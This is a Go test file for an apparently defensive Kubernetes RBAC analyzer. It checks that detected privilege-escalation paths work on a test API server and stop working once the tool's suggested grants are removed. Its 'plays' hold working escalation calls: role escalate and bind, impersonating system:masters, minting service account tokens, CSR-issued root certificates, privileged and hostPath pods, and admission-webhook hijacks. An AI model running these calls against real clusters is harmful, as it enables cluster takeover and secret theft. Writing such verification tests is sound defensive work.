package path

import (
	"bytes"
	"crypto/rand"
	"crypto/rsa"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"maps"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/plimsoll/plimsoll/internal/judge/rbac"
	"github.com/plimsoll/plimsoll/internal/read/kube"
	"github.com/plimsoll/plimsoll/testbed/cluster"
)

// errForbidden is the API server's refusal, and no other failure.
var errForbidden = errors.New("403 Forbidden")

// attacker asks the API server as somebody.
type attacker struct {
	t      *testing.T
	url    string
	client *http.Client
	header http.Header
}

func (a *attacker) ask(method, path string, body any) (map[string]any, error) {
	var sent io.Reader
	if body != nil {
		b, err := json.Marshal(body)
		if err != nil {
			return nil, err
		}
		sent = bytes.NewReader(b)
	}
	req, err := http.NewRequest(method, a.url+path, sent)
	if err != nil {
		return nil, err
	}
	maps.Copy(req.Header, a.header)
	req.Header.Set("Content-Type", "application/json")
	if method == http.MethodPatch {
		req.Header.Set("Content-Type", "application/strategic-merge-patch+json")
	}
	res, err := a.client.Do(req)
	if err != nil {
		return nil, err
	}
	defer res.Body.Close()
	text, err := io.ReadAll(res.Body)
	if err != nil {
		return nil, err
	}
	if res.StatusCode == http.StatusForbidden {
		return nil, fmt.Errorf("%w: %s %s: %.300s", errForbidden, method, path, text)
	}
	if res.StatusCode >= 300 {
		return nil, fmt.Errorf("%s %s: %s: %.300s", method, path, res.Status, text)
	}
	var into map[string]any
	err = json.Unmarshal(text, &into)
	return into, err
}

// master says that whoever asks may do all.
func (a *attacker) master() error {
	got, err := a.ask(http.MethodPost, "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews", map[string]any{"spec": map[string]any{"resourceAttributes": map[string]any{"verb": "*", "group": "*", "resource": "*"}}})
	return allowed(got, err)
}

func allowed(got map[string]any, err error) error {
	if err != nil {
		return err
	}
	if status, _ := got["status"].(map[string]any); status["allowed"] != true {
		return fmt.Errorf("%w: not allowed: %v", errForbidden, status)
	}
	return nil
}

// as is the attacker under another name, or with another token.
func (a *attacker) as(header ...string) *attacker {
	h := http.Header{}
	for i := 0; i < len(header); i += 2 {
		h.Add(header[i], header[i+1])
	}
	return &attacker{a.t, a.url, a.client, h}
}

// bare is the attacker without a certificate, with a token.
func (a *attacker) bare(token string) *attacker {
	transport := a.client.Transport.(*http.Transport).Clone()
	transport.TLSClientConfig.Certificates = nil
	return &attacker{a.t, a.url, &http.Client{Transport: transport}, http.Header{"Authorization": {"Bearer " + token}}}
}

func meta(name string) map[string]any { return map[string]any{"name": name} }

const access = "/apis/" + rbacGroup + "/v1"

var wildcard = []any{map[string]any{"verbs": []any{"*"}, "apiGroups": []any{"*"}, "resources": []any{"*"}}}

func bindingTo(name, user string) map[string]any {
	return map[string]any{
		"metadata": meta(name), "roleRef": map[string]any{"apiGroup": rbacGroup, "kind": "ClusterRole", "name": "cluster-admin"},
		"subjects": []any{map[string]any{"kind": "User", "apiGroup": rbacGroup, "name": user}},
	}
}

func podAs(name, account string, more map[string]any) map[string]any {
	spec := map[string]any{"serviceAccountName": account, "containers": []any{map[string]any{"name": "c", "image": "c"}}}
	maps.Copy(spec, more)
	return map[string]any{"metadata": meta(name), "spec": spec}
}

// play is a primitive as it is played: the rules that the role x gives to a user, and what the user does with them. Without a
// kubelet no pod runs: that it is made, as the account and with what it mounts, is what the API server can show.
type play struct {
	rules []string
	to    string
	do    func(a *attacker, user string) error
}

func rule(verbs, groups, resources string, names ...string) string {
	quote := func(s string) string { return `"` + strings.ReplaceAll(s, ",", `","`) + `"` }
	text := fmt.Sprintf(`{"verbs":[%s],"apiGroups":[%s],"resources":[%s]`, quote(verbs), quote(groups), quote(resources))
	if len(names) > 0 {
		text += fmt.Sprintf(`,"resourceNames":[%s]`, quote(strings.Join(names, ",")))
	}
	return text + "}"
}

const registration = "/apis/admissionregistration.k8s.io/v1"

func plays() map[string]play {
	tokenOf := func(a *attacker) error {
		got, err := a.ask(http.MethodPost, "/api/v1/namespaces/vault/serviceaccounts/master/token", map[string]any{"spec": map[string]any{}})
		if err != nil {
			return err
		}
		status, _ := got["status"].(map[string]any)
		token, _ := status["token"].(string)
		return a.bare(token).master()
	}
	return map[string]play{
		"all": {[]string{rule("*", "*", "*")}, ToAdmin, func(a *attacker, _ string) error { return a.master() }},
		"escalate": {[]string{rule("escalate,patch", rbacGroup, "clusterroles")}, ToAdmin, func(a *attacker, user string) error {
			if _, err := a.ask(http.MethodPatch, access+"/clusterroles/"+user, map[string]any{"rules": wildcard}); err != nil {
				return err
			}
			return a.until(a.master)
		}},
		"bind": {[]string{rule("bind", rbacGroup, "clusterroles"), rule("create", rbacGroup, "clusterrolebindings")}, ToAdmin, func(a *attacker, user string) error {
			if _, err := a.ask(http.MethodPost, access+"/clusterrolebindings", bindingTo("mine", user)); err != nil {
				return err
			}
			return a.until(a.master)
		}},
		"bind-in": {[]string{rule("bind", rbacGroup, "clusterroles"), rule("create", rbacGroup, "rolebindings")}, "secrets:vault", func(a *attacker, user string) error {
			if _, err := a.ask(http.MethodPost, access+"/namespaces/vault/rolebindings", bindingTo("mine", user)); err != nil {
				return err
			}
			return a.until(func() error { _, err := a.ask(http.MethodGet, "/api/v1/namespaces/vault/secrets", nil); return err })
		}},
		"impersonate-group": {[]string{rule("impersonate", "", "users,groups")}, ToAdmin, func(a *attacker, _ string) error {
			return a.as("Impersonate-User", "nobody", "Impersonate-Group", "system:masters").master()
		}},
		"impersonate-user": {[]string{rule("impersonate", "", "users")}, ToAdmin, func(a *attacker, _ string) error {
			return a.as("Impersonate-User", "root").master()
		}},
		"impersonate-account": {[]string{rule("impersonate", "", "serviceaccounts", "master")}, ToAdmin, func(a *attacker, _ string) error {
			return a.as("Impersonate-User", "system:serviceaccount:vault:master").master()
		}},
		"token":    {[]string{rule("create", "", "serviceaccounts/token")}, ToAdmin, func(a *attacker, _ string) error { return tokenOf(a) }},
		"token-of": {[]string{rule("create", "", "serviceaccounts/token", "master")}, ToAdmin, func(a *attacker, _ string) error { return tokenOf(a) }},
		"token-secret": {[]string{rule("create,get", "", "secrets")}, ToAdmin, func(a *attacker, user string) error {
			made := map[string]any{
				"metadata": map[string]any{"name": user, "annotations": map[string]any{"kubernetes.io/service-account.name": "master"}}, "type": "kubernetes.io/service-account-token",
			}
			if _, err := a.ask(http.MethodPost, "/api/v1/namespaces/vault/secrets", made); err != nil {
				return err
			}
			return a.until(func() error {
				got, err := a.ask(http.MethodGet, "/api/v1/namespaces/vault/secrets/"+user, nil)
				if err != nil {
					return err
				}
				data, _ := got["data"].(map[string]any)
				var token []byte
				text, _ := json.Marshal(data["token"])
				if err := json.Unmarshal(text, &token); err != nil || len(token) == 0 {
					return fmt.Errorf("no token yet: %v", err)
				}
				return a.bare(string(token)).master()
			})
		}},
		"secrets": {[]string{rule("list", "", "secrets")}, "secrets:vault", func(a *attacker, _ string) error {
			got, err := a.ask(http.MethodGet, "/api/v1/namespaces/vault/secrets", nil)
			if text := fmt.Sprint(got); err == nil && !strings.Contains(text, "aHVudGVyMg==") {
				return fmt.Errorf("it is not among them: %s", text)
			}
			return err
		}},
		"pods": {[]string{rule("create", "", "pods")}, ToNode, func(a *attacker, user string) error {
			_, err := a.ask(http.MethodPost, "/api/v1/namespaces/vault/pods", podAs(user, "master", map[string]any{
				"hostPID": true, "containers": []any{map[string]any{"name": "c", "image": "c", "securityContext": map[string]any{"privileged": true}}},
			}))
			return err
		}},
		"workloads": {[]string{rule("create", "apps", "daemonsets")}, ToAdmin, func(a *attacker, user string) error {
			labels := map[string]any{"a": user}
			_, err := a.ask(http.MethodPost, "/apis/apps/v1/namespaces/vault/daemonsets", map[string]any{"metadata": meta(user), "spec": map[string]any{
				"selector": map[string]any{"matchLabels": labels}, "template": map[string]any{"metadata": map[string]any{"labels": labels}, "spec": podAs("", "master", nil)["spec"]},
			}})
			return err
		}},
		"exec": {[]string{rule("create", "", "pods/exec")}, ToAdmin, func(a *attacker, _ string) error {
			// The API server lets it through, and has no kubelet to hand it to.
			_, err := a.ask(http.MethodPost, "/api/v1/namespaces/vault/pods/master/exec?command=id&container=c&stdout=true", nil)
			return through(err)
		}},
		"debug": {[]string{rule("patch", "", "pods")}, ToAdmin, func(a *attacker, _ string) error {
			_, err := a.ask(http.MethodPatch, "/api/v1/namespaces/vault/pods/master", map[string]any{"spec": map[string]any{"containers": []any{map[string]any{"name": "c", "image": "mine"}}}})
			return err
		}},
		"node-proxy": {[]string{rule("get", "", "nodes/proxy")}, ToAdmin, func(a *attacker, _ string) error {
			_, err := a.ask(http.MethodGet, "/api/v1/nodes/n1/proxy/pods", nil)
			return through(err) // to a kubelet that is not there
		}},
		"certificate": {[]string{
			rule("create,get", "certificates.k8s.io", "certificatesigningrequests"), rule("update", "certificates.k8s.io", "certificatesigningrequests/approval"),
			rule("approve", "certificates.k8s.io", "signers", "kubernetes.io/kube-apiserver-client"),
		}, ToAdmin, func(a *attacker, user string) error {
			return a.certificate(user, "kubernetes.io/kube-apiserver-client", pkix.Name{CommonName: "root"}, (*attacker).master)
		}},
		"webhook": {[]string{rule("create", "admissionregistration.k8s.io", "mutatingwebhookconfigurations")}, ToAdmin, func(a *attacker, user string) error {
			_, err := a.ask(http.MethodPost, registration+"/mutatingwebhookconfigurations", map[string]any{"metadata": meta(user), "webhooks": []any{map[string]any{
				"name": "a.b.c", "admissionReviewVersions": []any{"v1"}, "sideEffects": "None", "failurePolicy": "Ignore", "clientConfig": map[string]any{"url": "https://127.0.0.1:1"},
				"rules": []any{map[string]any{"apiGroups": []any{""}, "apiVersions": []any{"v1"}, "operations": []any{"CREATE"}, "resources": []any{"pods"}}},
			}}})
			return err
		}},
		"mutating-policy": {[]string{rule("create", "admissionregistration.k8s.io", "mutatingadmissionpolicies,mutatingadmissionpolicybindings")}, ToAdmin, func(a *attacker, user string) error {
			_, err := a.ask(http.MethodPost, registration+"/mutatingadmissionpolicies", map[string]any{"metadata": meta(user), "spec": map[string]any{
				"matchConstraints": map[string]any{"resourceRules": []any{map[string]any{"apiGroups": []any{""}, "apiVersions": []any{"v1"}, "operations": []any{"CREATE"}, "resources": []any{"pods"}}}},
				"failurePolicy":    "Ignore", "reinvocationPolicy": "Never",
				"mutations": []any{map[string]any{"patchType": "ApplyConfiguration", "applyConfiguration": map[string]any{"expression": "Object{spec: Object.spec{serviceAccountName: 'master'}}"}}},
			}})
			if err == nil {
				_, err = a.ask(http.MethodPost, registration+"/mutatingadmissionpolicybindings", map[string]any{"metadata": meta(user), "spec": map[string]any{"policyName": user}})
			}
			return err
		}},
		"volume": {[]string{rule("create", "", "persistentvolumes,persistentvolumeclaims,pods")}, ToNode, func(a *attacker, user string) error {
			size := map[string]any{"storage": "1Gi"}
			_, err := a.ask(http.MethodPost, "/api/v1/persistentvolumes", map[string]any{"metadata": meta(user), "spec": map[string]any{"capacity": size, "accessModes": []any{"ReadWriteOnce"}, "hostPath": map[string]any{"path": "/"}, "storageClassName": ""}})
			if err == nil {
				_, err = a.ask(http.MethodPost, "/api/v1/namespaces/tight/persistentvolumeclaims", map[string]any{"metadata": meta(user), "spec": map[string]any{"accessModes": []any{"ReadWriteOnce"}, "volumeName": user, "storageClassName": "", "resources": map[string]any{"requests": size}}})
			}
			if err == nil {
				_, err = a.ask(http.MethodPost, "/api/v1/namespaces/tight/pods", podAs(user, "plain", tight(map[string]any{"volumes": []any{map[string]any{"name": "v", "persistentVolumeClaim": map[string]any{"claimName": user}}}})))
			}
			return err
		}},
		"relabel": {[]string{rule("patch", "", "namespaces"), rule("create", "", "pods")}, ToNode, func(a *attacker, user string) error {
			privileged := podAs(user, "plain", map[string]any{"hostPID": true})
			if _, err := a.ask(http.MethodPost, "/api/v1/namespaces/tight/pods", privileged); err == nil {
				return fmt.Errorf("the namespace enforces nothing")
			}
			if _, err := a.ask(http.MethodPatch, "/api/v1/namespaces/tight", map[string]any{"metadata": map[string]any{"labels": map[string]any{"pod-security.kubernetes.io/enforce": "privileged"}}}); err != nil {
				return err
			}
			return a.until(func() error {
				_, err := a.ask(http.MethodPost, "/api/v1/namespaces/tight/pods", privileged)
				return err
			})
		}},
	}
}

// tight is what the standard restricted wants of a pod.
func tight(more map[string]any) map[string]any {
	more["securityContext"] = map[string]any{"runAsNonRoot": true, "runAsUser": 1, "seccompProfile": map[string]any{"type": "RuntimeDefault"}}
	more["containers"] = []any{map[string]any{"name": "c", "image": "c", "securityContext": map[string]any{"allowPrivilegeEscalation": false, "capabilities": map[string]any{"drop": []any{"ALL"}}}}}
	return more
}

// through is nothing where the API server let a call through to something that does not run here.
func through(err error) error {
	if errors.Is(err, errForbidden) {
		return err
	}
	return nil
}

// until tries for half a minute: the API server and its controllers learn of changes a little later.
func (a *attacker) until(holds func() error) (err error) {
	for began := time.Now(); time.Since(began) < 30*time.Second; time.Sleep(50 * time.Millisecond) {
		if err = holds(); err == nil {
			return err
		}
	}
	return err
}

// certificate asks for one of somebody, approves it, and uses it.
func (a *attacker) certificate(name, signer string, of pkix.Name, use func(a *attacker) error) error {
	key, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		return err
	}
	der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{Subject: of}, key)
	if err != nil {
		return err
	}
	const at = "/apis/certificates.k8s.io/v1/certificatesigningrequests"
	got, err := a.ask(http.MethodPost, at, map[string]any{"metadata": meta(name), "spec": map[string]any{
		"request": pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der}), "signerName": signer, "usages": []any{"client auth", "digital signature"},
	}})
	if err != nil {
		return err
	}
	got["status"] = map[string]any{"conditions": []any{map[string]any{"type": "Approved", "status": "True", "reason": "a", "message": "a"}}}
	if _, err := a.ask(http.MethodPut, at+"/"+name+"/approval", got); err != nil {
		return err
	}
	return a.until(func() error {
		got, err := a.ask(http.MethodGet, at+"/"+name, nil)
		if err != nil {
			return err
		}
		status, _ := got["status"].(map[string]any)
		var signed []byte
		text, _ := json.Marshal(status["certificate"])
		if err := json.Unmarshal(text, &signed); err != nil || len(signed) == 0 {
			return fmt.Errorf("no certificate yet: %v", status)
		}
		pair, err := tls.X509KeyPair(signed, pem.EncodeToMemory(&pem.Block{Type: "RSA PRIVATE KEY", Bytes: x509.MarshalPKCS1PrivateKey(key)}))
		if err != nil {
			return err
		}
		transport := a.client.Transport.(*http.Transport).Clone()
		transport.TLSClientConfig.Certificates = []tls.Certificate{pair}
		return use(&attacker{a.t, a.url, &http.Client{Transport: transport}, http.Header{}})
	})
}

// TestPlayed has a user who holds what a primitive needs do it on a real API server, and not after the cut: the graph says that
// there is a path, and with the grants of the cut removed there, the same calls are refused. What is not played: a bootstrap
// token and an operator's objects, whose other ends do not run here, and escalate-role, which is escalate with another kind. Of ConfigMaps of
// kube-system, routes, APIServices and exceptions it is played that they are written, and not what reads them.
func TestPlayed(t *testing.T) {
	c := cluster.Start(t, cluster.WithAccounts, "--runtime-config=admissionregistration.k8s.io/v1=true")
	c.StartManager()
	root := &attacker{t, c.URL, c.Client("admin", "system:masters"), http.Header{}}
	must := func(method, path string, body any) {
		t.Helper()
		if err := root.until(func() error {
			_, err := root.ask(method, path, body)
			return err
		}); err != nil {
			t.Fatal(err)
		}
	}
	must(http.MethodPost, "/api/v1/namespaces", map[string]any{"metadata": meta("vault")})
	must(http.MethodPost, "/api/v1/namespaces", map[string]any{"metadata": map[string]any{"name": "tight", "labels": map[string]any{"pod-security.kubernetes.io/enforce": "restricted"}}})
	must(http.MethodPost, "/api/v1/namespaces/vault/serviceaccounts", map[string]any{"metadata": meta("master")})
	must(http.MethodPost, "/api/v1/namespaces/tight/serviceaccounts", map[string]any{"metadata": meta("plain")})
	must(http.MethodPost, "/api/v1/namespaces/vault/secrets", map[string]any{"metadata": meta("db"), "stringData": map[string]any{"password": "hunter2"}})
	must(http.MethodPost, "/api/v1/namespaces/vault/pods", podAs("master", "master", nil))
	must(http.MethodPost, "/api/v1/nodes", map[string]any{"metadata": meta("n1"), "status": map[string]any{"addresses": []any{map[string]any{"type": "InternalIP", "address": "127.0.0.1"}}}})
	must(http.MethodPost, access+"/clusterrolebindings", bindingTo("root", "root"))
	master := bindingTo("master", "")
	master["subjects"] = []any{map[string]any{"kind": "ServiceAccount", "namespace": "vault", "name": "master"}}
	must(http.MethodPost, access+"/clusterrolebindings", master)

	standing(must)
	all := plays()
	maps.Copy(all, playsAround())
	not := []string{"bootstrap", "gitops", "escalate-role"}
	for _, p := range append(Primitives(), &Primitive{ID: "relabel"}, &Primitive{ID: "unguard"}) {
		if _, ok := all[p.ID]; !ok && !slices.Contains(not, p.ID) {
			t.Errorf("%s is not played", p.ID)
		}
	}
	// A label that has a role gathered into view is no way for somebody who lacks its rules: no primitive says that it is.
	must(http.MethodPost, access+"/clusterroles", map[string]any{"metadata": meta("strong"), "rules": wildcard})
	must(http.MethodPost, access+"/clusterroles", map[string]any{"metadata": meta("labels"), "rules": []any{map[string]any{"verbs": []any{"patch"}, "apiGroups": []any{rbacGroup}, "resources": []any{"clusterroles"}}, map[string]any{"verbs": []any{"get"}, "apiGroups": []any{""}, "resources": []any{"pods"}}}})
	labels := bindingTo("labels", "labels")
	labels["roleRef"].(map[string]any)["name"] = "labels"
	must(http.MethodPost, access+"/clusterrolebindings", labels)
	a := &attacker{t, c.URL, c.Client("labels"), http.Header{}}
	gathered := map[string]any{"metadata": map[string]any{"labels": map[string]any{"rbac.authorization.k8s.io/aggregate-to-view": "true"}}}
	if err := a.until(func() error { _, err := a.ask(http.MethodPatch, access+"/clusterroles/labels", gathered); return err }); err != nil {
		t.Errorf("a role whose rules it has: %v", err)
	}
	if _, err := a.ask(http.MethodPatch, access+"/clusterroles/strong", gathered); !errors.Is(err, errForbidden) {
		t.Errorf("a role whose rules it lacks: %v", err)
	}
	for _, id := range slices.Sorted(maps.Keys(all)) {
		t.Run(id, func(t *testing.T) {
			p, user := all[id], "user-"+id
			var rules []any
			for _, text := range p.rules {
				var one map[string]any
				if err := json.Unmarshal([]byte(text), &one); err != nil {
					t.Fatal(err)
				}
				rules = append(rules, one)
			}
			must(http.MethodPost, access+"/clusterroles", map[string]any{"metadata": meta(user), "rules": rules})
			binding := bindingTo(user, user)
			binding["roleRef"].(map[string]any)["name"] = user
			must(http.MethodPost, access+"/clusterrolebindings", binding)
			who := rbac.NewSubject(rbac.User, "", user)
			s := live(t, root)
			m := rbac.New(s, rbac.Options{Whole: true})
			others := func(s rbac.Subject) bool { return s != who }
			end, namespace, _ := strings.Cut(p.to, ":")
			g := Build(m, s, root.forbids)
			if !slices.ContainsFunc(g.From(end, namespace, others, 1), func(r Reach) bool { return r.At == who }) {
				t.Fatalf("the graph has no path to %s", p.to)
			}
			a := &attacker{t, c.URL, c.Client(user), http.Header{}}
			if err := a.until(func() error { return p.do(a, user) }); err != nil {
				t.Fatalf("it does not work: %v", err)
			}
			// Undone, and cut: the same does not work any more.
			must(http.MethodPatch, registration+"/validatingadmissionpolicybindings/no-root", map[string]any{"spec": map[string]any{"validationActions": []any{"Deny"}}})
			must(http.MethodPatch, "/api/v1/namespaces/tight", map[string]any{"metadata": map[string]any{"labels": map[string]any{"pod-security.kubernetes.io/enforce": "restricted"}}})
			for _, path := range []string{
				access + "/clusterrolebindings/mine", access + "/namespaces/vault/rolebindings/mine", registration + "/mutatingwebhookconfigurations/" + user, registration + "/mutatingadmissionpolicybindings/" + user,
				registration + "/mutatingadmissionpolicies/" + user, "/api/v1/namespaces/vault/secrets/" + user, "/api/v1/namespaces/vault/pods/" + user,
				"/apis/apiregistration.k8s.io/v1/apiservices/v1.evil.io",
			} {
				_, _ = root.ask(http.MethodDelete, path, nil) // most are not there
			}
			cut := g.Cut(end, namespace, others)
			for _, grant := range cut.Grants {
				if grant.Subject == who {
					must(http.MethodDelete, access+"/clusterrolebindings/"+grant.Name, nil)
				}
			}
			s = live(t, root)
			if left := Build(rbac.New(s, rbac.Options{Whole: true}), s, root.forbids).From(end, namespace, others, 1); slices.ContainsFunc(left, func(r Reach) bool { return r.At == who }) {
				t.Fatalf("after the cut of %v there is a path: %+v", cut.Grants, left)
			}
			if err := root.until(func() error {
				if err := p.do(a, user+"-2"); !errors.Is(err, errForbidden) {
					return fmt.Errorf("after the cut it still works: %v", err)
				}
				return nil
			}); err != nil {
				t.Fatal(err)
			}
		})
	}
}

// live reads what the graph is made of.
func live(t *testing.T, root *attacker) *kube.Snapshot {
	t.Helper()
	var items []any
	for path, kind := range map[string][2]string{
		access + "/clusterroles": {rbacGroup + "/v1", "ClusterRole"}, access + "/clusterrolebindings": {rbacGroup + "/v1", "ClusterRoleBinding"},
		access + "/roles": {rbacGroup + "/v1", "Role"}, access + "/rolebindings": {rbacGroup + "/v1", "RoleBinding"},
		"/api/v1/serviceaccounts": {"v1", "ServiceAccount"}, "/api/v1/namespaces": {"v1", "Namespace"}, "/api/v1/pods": {"v1", "Pod"}, "/api/v1/services": {"v1", "Service"},
		"/apis/apps/v1/deployments": {"apps/v1", "Deployment"}, "/apis/apps/v1/daemonsets": {"apps/v1", "DaemonSet"}, "/apis/networking.k8s.io/v1/networkpolicies": {"networking.k8s.io/v1", "NetworkPolicy"},
		registration + "/validatingwebhookconfigurations": {"admissionregistration.k8s.io/v1", "ValidatingWebhookConfiguration"},
	} {
		got, err := root.ask(http.MethodGet, path, nil)
		if err != nil {
			t.Fatal(err)
		}
		list, _ := got["items"].([]any)
		for _, o := range list {
			one := o.(map[string]any)
			one["apiVersion"], one["kind"] = kind[0], kind[1]
			items = append(items, one)
		}
	}
	text, err := json.Marshal(map[string]any{"apiVersion": "v1", "kind": "List", "items": items})
	if err != nil {
		t.Fatal(err)
	}
	objects, problems := kube.Manifest("live.json", text)
	if len(problems) > 0 {
		t.Fatal(problems[0])
	}
	return kube.NewSnapshot(objects, nil)
}
